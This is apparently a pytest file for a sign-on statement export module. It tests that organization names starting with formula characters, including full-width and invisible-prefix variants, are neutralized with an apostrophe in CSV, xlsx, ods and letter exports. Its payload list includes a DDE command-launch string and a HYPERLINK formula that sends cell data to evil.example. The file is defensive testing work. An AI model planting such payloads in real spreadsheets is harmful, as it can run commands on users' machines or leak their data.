"""Formulas in names: no list that leaves runs one, whatever it begins with."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from signon.exports import list_pieces, list_writers
from signon.exports.cells import harmless, meant
from signon.exports.export_choice import Choice
from signon.exports.question_columns import resource_of
from signon.letters import table
from signon.models import Organization, SignOn
from tests.factories import StatementFactory, accepted

# DDE, links, functions; the signs also in full width, and behind what a spreadsheet takes off first.
FORMULAS = [
    "=1+1", "+1", "-1+1", "@SUM(1)", "|calc", "%0A=1", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000＝1", "＝1+1",
    "＋1", "－1", "＠SUM", "\ufeff=1", "\u200b=1", "\u2060@x", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=WEBSERVICE(1)", "−1", "'=1", "''=1", "\x1c=1", "\v=1", "\u2028=1",
    "\u202f+1", "﹢1", "﹣1", "﹦1", "｜calc", "％1",
]  # fmt: skip


def cells_of(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", FORMULAS, ids=repr)
def test_every_beginning_gets_an_apostrophe_that_is_taken_off_again(value):
    assert harmless(value) == f"'{value}"
    assert meant(harmless(value)) == value


@pytest.mark.parametrize("form", ["csv", "xlsx", "ods", "json"])
def test_no_writer_makes_a_formula(form):
    out = io.BytesIO()
    list_writers.WRITERS[form](iter([["organization"], *([each] for each in FORMULAS)]), out)
    if form == "csv":
        assert cells_of(out.getvalue()) == [["organization"], *([f"'{each}"] for each in FORMULAS)]
    elif form == "xlsx":
        kinds = {row[0].data_type for row in load_workbook(out).active.iter_rows(min_row=2)}
        assert kinds == {"s"}
    elif form == "ods":
        content = zipfile.ZipFile(out).read("content.xml").decode()
        assert "table:formula" not in content
        assert set(re.findall(r'office:value-type="(\w+)"', content)) == {"string"}


@pytest.mark.django_db
def test_the_list_that_the_database_writes_is_as_harmless():
    statement = StatementFactory()
    for number, value in enumerate(FORMULAS):
        made = accepted(statement=statement, organization_name=f"Organization {number}")
        SignOn.objects.filter(pk=made.pk).update(listed_name=value, representative_title=value)
        Organization.objects.filter(pk=made.organization_id).update(name=value)
    choice = Choice(statement=statement.slug, contacts=True)
    pieces = list_pieces.csv_pieces(choice, resource_of(statement.slug, contacts=True))
    head, *rows = cells_of(b"".join(piece for piece in pieces if isinstance(piece, bytes)))
    for name in ("organization", "representative_title"):
        assert sorted(row[head.index(name)] for row in rows) == sorted(f"'{value}" for value in FORMULAS), name


def test_a_carriage_return_in_a_cell_begins_no_row():
    out = io.BytesIO()
    list_writers.write_csv(iter([["a", "b"], ["x\r=1+1", 'y\n"=1"'], ["", None]]), out)
    assert cells_of(out.getvalue()) == [["a", "b"], ["x\r=1+1", 'y\n"=1"'], ["", ""]]
    assert out.getvalue().decode("utf-8-sig") == 'a,b\n"x\r=1+1","y\n""=1"""\n,\n'


def test_a_letters_table_is_as_harmless():
    def entry(value):
        row = dict.fromkeys(table.COLUMNS, value)
        return SimpleNamespace(row=row, representative=value, representative_title=value, answers=[value, value])

    letter = SimpleNamespace(groups=[SimpleNamespace(entries=[entry(value) for value in FORMULAS])])
    _head, *rows = cells_of(table.write(letter, with_representatives=True, with_answers=True))
    assert all(cell.startswith("'") for row in rows for cell in row[1:])
    assert [row[0] for row in rows] == [str(number) for number in range(1, len(FORMULAS) + 1)]
